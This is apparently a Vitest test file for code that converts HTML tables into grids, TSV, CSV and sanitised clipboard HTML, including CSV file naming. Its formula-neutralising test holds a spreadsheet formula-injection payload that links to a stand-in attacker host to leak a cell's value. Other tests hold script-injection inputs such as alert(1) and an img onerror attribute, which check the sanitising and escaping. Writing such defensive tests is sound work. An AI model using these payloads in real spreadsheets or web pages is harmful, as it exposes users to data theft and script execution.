/**
 * Tables → spreadsheets: the rectangular grid (merged cells expanded as the HTML table model lays them out, row groups
 * in display order, short rows padded), the cell text, TSV and CSV quoting, formula neutralising, the clean HTML the
 * clipboard carries, and the CSV file's name and byte-order mark.
 */
import { describe, expect, it } from 'vitest';
import { cellSpan, gridValues, tableClipboardPayload, tableCsvFile, tableGrid, toCsv, toTableHtml, toTsv } from '../src/format/table';

function table(html: string): Element {
  const doc = new DOMParser().parseFromString(`<!DOCTYPE html><body>${html}</body>`, 'text/html');
  return doc.querySelector('table')!;
}

const values = (html: string, merged: 'repeat' | 'empty' = 'repeat'): string[][] => gridValues(tableGrid(table(html)), { merged });

describe('the grid', () => {
  it('reads th and td row by row', () => {
    const grid = tableGrid(table('<table><tr><th>区</th><th>人数</th></tr><tr><td>东区</td><td>12</td></tr></table>'));
    expect(gridValues(grid)).toEqual([
      ['区', '人数'],
      ['东区', '12'],
    ]);
    expect(grid.rows[0]!.map((c) => c!.header)).toEqual([true, true]);
    expect(grid.rows[1]!.map((c) => c!.header)).toEqual([false, false]);
    expect(grid.width).toBe(2);
  });

  it('expands row and column spans, the text repeated in every slot or only in the first', () => {
    const html =
      '<table><tr><th rowspan="2">地区</th><th colspan="2">人数</th></tr>' +
      '<tr><th>男</th><th>女</th></tr>' +
      '<tr><td>东区</td><td>5</td><td>7</td></tr>' +
      '<tr><td colspan="3">合计 12</td></tr></table>';
    expect(values(html)).toEqual([
      ['地区', '人数', '人数'],
      ['地区', '男', '女'],
      ['东区', '5', '7'],
      ['合计 12', '合计 12', '合计 12'],
    ]);
    expect(values(html, 'empty')).toEqual([
      ['地区', '人数', ''],
      ['', '男', '女'],
      ['东区', '5', '7'],
      ['合计 12', '', ''],
    ]);
  });

  it('places a cell after the slots that spans from rows above already take', () => {
    // A row span in the middle column pushes the next row's second cell to the third column.
    const html =
      '<table><tr><td>a</td><td rowspan="3">b</td><td>c</td></tr>' +
      '<tr><td>d</td><td>e</td></tr>' +
      '<tr><td colspan="1">f</td><td>g</td></tr></table>';
    expect(values(html)).toEqual([
      ['a', 'b', 'c'],
      ['d', 'b', 'e'],
      ['f', 'b', 'g'],
    ]);
  });

  it('pads short rows so that the grid is rectangular', () => {
    const grid = tableGrid(table('<table><tr><td>1</td><td>2</td><td>3</td></tr><tr><td>only</td></tr><tr></tr></table>'));
    expect(grid.width).toBe(3);
    expect(grid.rows.map((r) => r.length)).toEqual([3, 3, 3]);
    expect(gridValues(grid)).toEqual([
      ['1', '2', '3'],
      ['only', '', ''],
      ['', '', ''],
    ]);
    expect(grid.rows[1]![1]).toBeNull();
  });

  it('stops a row span at the end of its row group; rowspan="0" reaches it', () => {
    const html =
      '<table><thead><tr><th rowspan="5">头</th><th>x</th></tr></thead>' +
      '<tbody><tr><td rowspan="0">整组</td><td>1</td></tr><tr><td>2</td></tr><tr><td>3</td></tr></tbody>' +
      '<tbody><tr><td>新组</td><td>4</td></tr></tbody></table>';
    expect(values(html)).toEqual([
      ['头', 'x'],
      ['整组', '1'],
      ['整组', '2'],
      ['整组', '3'],
      ['新组', '4'],
    ]);
    expect(tableGrid(table(html)).rows[0]![0]!.rowSpan).toBe(1);
  });

  it('shows the head first and the foot last, wherever they stand in the source', () => {
    const html =
      '<table><tfoot><tr><td>合计</td></tr></tfoot><tr><td>正文1</td></tr><tbody><tr><td>正文2</td></tr></tbody>' +
      '<thead><tr><th>表头</th></tr></thead></table>';
    const grid = tableGrid(table(html));
    expect(gridValues(grid).map((r) => r[0])).toEqual(['表头', '正文1', '正文2', '合计']);
    expect(grid.headRows).toBe(1);
  });

  it('reads spans as browsers do', () => {
    const cell = (attr: string): Element => table(`<table><tr><td ${attr}>x</td></tr></table>`).querySelector('td')!;
    expect(cellSpan(cell('colspan="2px"'), 'colspan')).toBe(2);
    expect(cellSpan(cell('colspan=" +3"'), 'colspan')).toBe(3);
    expect(cellSpan(cell('colspan="0"'), 'colspan')).toBe(1);
    expect(cellSpan(cell('colspan="wide"'), 'colspan')).toBe(1);
    expect(cellSpan(cell('colspan="-2"'), 'colspan')).toBe(1);
    expect(cellSpan(cell('colspan="99999"'), 'colspan')).toBe(1000);
    expect(cellSpan(cell('rowspan="0"'), 'rowspan')).toBe(0);
    expect(cellSpan(cell(''), 'rowspan')).toBe(1);
    expect(values('<table><tr><td colspan="2px">宽</td></tr><tr><td>a</td><td>b</td></tr></table>')).toEqual([
      ['宽', '宽'],
      ['a', 'b'],
    ]);
  });

  it('keeps a nested table out of the grid and its text in its cell, a line per row', () => {
    const html =
      '<table><tr><td>附件</td><td><table><tr><td>1.</td><td>申报表.docx</td></tr><tr><td>2.</td><td>说明.pdf</td></tr></table></td></tr>' +
      '<tr><td>联系人</td><td>张三</td></tr></table>';
    const grid = tableGrid(table(html));
    expect(grid.rows).toHaveLength(2);
    expect(gridValues(grid)).toEqual([
      ['附件', '1. 申报表.docx\n2. 说明.pdf'],
      ['联系人', '张三'],
    ]);
  });

  it('gives empty cells, <br> and paragraphs as lines, and collapses white space', () => {
    const html =
      '<table><tr><td></td><td>  a&nbsp;&nbsp;b\n  c </td><td>第一行<br>第二行</td><td><p>段一</p><p></p><p>段二</p></td>' +
      '<td><img src="x.png" alt="是"></td><td><script>alert(1)</script>　缩进　</td><td><pre>代码\n  第二行</pre></td></tr></table>';
    expect(values(html)).toEqual([['', 'a b c', '第一行\n第二行', '段一\n段二', '是', '缩进', '代码\n第二行']]);
  });

  it('takes the caption apart from the rows', () => {
    const grid = tableGrid(table('<table><caption> 表1　2023年 <b>人数</b> </caption><tr><td>1</td></tr></table>'));
    expect(grid.caption).toBe('表1 2023年 人数');
    expect(gridValues(grid)).toEqual([['1']]);
    expect(tableGrid(table('<table><tr><td>1</td></tr></table>')).caption).toBeNull();
  });

  it('is empty for a table without rows', () => {
    const grid = tableGrid(table('<table><caption>空</caption></table>'));
    expect(grid).toMatchObject({ rows: [], width: 0, headRows: 0, caption: '空' });
    expect(toTsv(grid)).toBe('');
    expect(toCsv(grid)).toBe('\uFEFF');
  });
});

describe('TSV and CSV', () => {
  const awkward = table(
    '<table><tr><th>名称</th><th>说明</th></tr>' +
      '<tr><td>He said "hi"</td><td>a\tb</td></tr>' +
      '<tr><td>两行<br>文字</td><td>1,234</td></tr></table>',
  );

  it('writes TSV as Excel does: quoted where a field holds a tab, a line break or a quote', () => {
    // A tab in the source text is white space in HTML: it collapses to a space.
    expect(toTsv(tableGrid(awkward))).toBe('名称\t说明\n"He said ""hi"""\ta b\n"两行\n文字"\t1,234');
  });

  it('writes CSV with a byte-order mark, CRLF and RFC 4180 quoting', () => {
    const csv = toCsv(tableGrid(awkward));
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toBe('\uFEFF名称,说明\r\n"He said ""hi""",a b\r\n"两行\n文字","1,234"\r\n');
    expect(toCsv(tableGrid(awkward), { bom: false }).startsWith('名称')).toBe(true);
  });

  it('reads back as the grid it was written from', () => {
    const grid = tableGrid(awkward);
    expect(parseCsv(toCsv(grid).slice(1))).toEqual(gridValues(grid));
  });

  it('neutralises what a spreadsheet would run as a formula, and leaves numbers alone', () => {
    const grid = tableGrid(
      table(
        '<table><tr><td>=HYPERLINK("http://evil.example/?"&amp;A1)</td><td>@SUM(A1)</td><td>+86 22 2345 6789</td><td>-5</td><td>+1.5%</td><td>-</td><td>- 项目</td><td>a=b</td></tr></table>',
      ),
    );
    expect(gridValues(grid)[0]).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'@SUM(A1)", "'+86 22 2345 6789", '-5', '+1.5%', '-', "'- 项目", 'a=b']);
    expect(gridValues(grid, { neutralizeFormulas: false })[0]![0]).toBe('=HYPERLINK("http://evil.example/?"&A1)');
    expect(toCsv(grid).split(',')[0]).toBe("\uFEFF\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
  });
});

/** A strict RFC 4180 reader, to check that what toCsv writes parses back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    row.push(value);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

describe('the clean HTML table', () => {
  const source =
    '<table class="MsoTable" style="width:600px" onclick="x()"><caption>表 <i>1</i></caption>' +
    '<thead><tr><th rowspan="2" style="color:red">地区</th><th colspan="2">人数</th></tr><tr><th>男</th><th>女</th></tr></thead>' +
    '<tbody><tr><td><span class="x">东&lt;区&gt;</span></td><td>5<br>（估）</td><td><a href="https://a.example/">7</a></td></tr>' +
    '<tr><td>西区</td></tr></tbody></table>';

  it('keeps the spans, pads short rows with empty cells and drops every other attribute and tag', () => {
    expect(toTableHtml(tableGrid(table(source)))).toBe(
      '<table><caption>表 1</caption>' +
        '<thead><tr><th rowspan="2">地区</th><th colspan="2">人数</th></tr><tr><th>男</th><th>女</th></tr></thead>' +
        '<tbody><tr><td>东&lt;区&gt;</td><td>5<br>（估）</td><td>7</td></tr><tr><td>西区</td><td></td><td></td></tr></tbody></table>',
    );
  });

  it('clamps a span to the table it is in', () => {
    const html = toTableHtml(tableGrid(table('<table><tr><td rowspan="9">a</td><td>b</td></tr><tr><td>c</td></tr></table>')));
    expect(html).toBe('<table><tbody><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>');
  });

  it('lays out as the same grid once parsed again', () => {
    const grid = tableGrid(table(source));
    const again = tableGrid(table(toTableHtml(grid)));
    expect(gridValues(again)).toEqual(gridValues(grid));
    expect(again.caption).toBe(grid.caption);
    expect(again.headRows).toBe(2);
  });

  it('escapes text that looks like markup', () => {
    const html = toTableHtml(tableGrid(table('<table><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>')));
    expect(html).toBe('<table><tbody><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></tbody></table>');
  });
});

describe('复制表格 and 导出 CSV', () => {
  const article = { title: '关于公布2023年名单的通知', source: '办公室', publishedTime: '2024-03-08T09:30' };

  it('puts TSV and the clean table on the clipboard', () => {
    const payload = tableClipboardPayload(table('<table><tr><td colspan="2">合并</td></tr><tr><td>a</td><td>b</td></tr></table>'));
    expect(payload.text).toBe('合并\t合并\na\tb');
    expect(payload.html).toBe('<meta charset="utf-8"><table><tbody><tr><td colspan="2">合并</td></tr><tr><td>a</td><td>b</td></tr></tbody></table>');
  });

  it('names the CSV after the article and the caption, else the table number', () => {
    const withCaption = tableCsvFile(table('<table><caption>获奖名单</caption><tr><td>1</td></tr></table>'), article, 2);
    expect(withCaption.filename).toBe('2024-03-08_办公室_关于公布2023年名单的通知_获奖名单.csv');
    expect(withCaption.mime).toBe('text/csv;charset=utf-8');
    expect(withCaption.data).toBe('\uFEFF1\r\n');
    expect(tableCsvFile(table('<table><tr><td>1</td></tr></table>'), article, 3).filename).toBe('2024-03-08_办公室_关于公布2023年名单的通知_表3.csv');
  });

  it('keeps the caption in the name when the title is shortened', () => {
    const name = tableCsvFile(table('<table><caption>名单/附表:1</caption><tr><td>1</td></tr></table>'), { ...article, title: '很长的标题'.repeat(60) }, 1).filename;
    expect(name.endsWith('_名单 附表 1.csv')).toBe(true);
    expect(name.length).toBeLessThanOrEqual(150);
  });
});
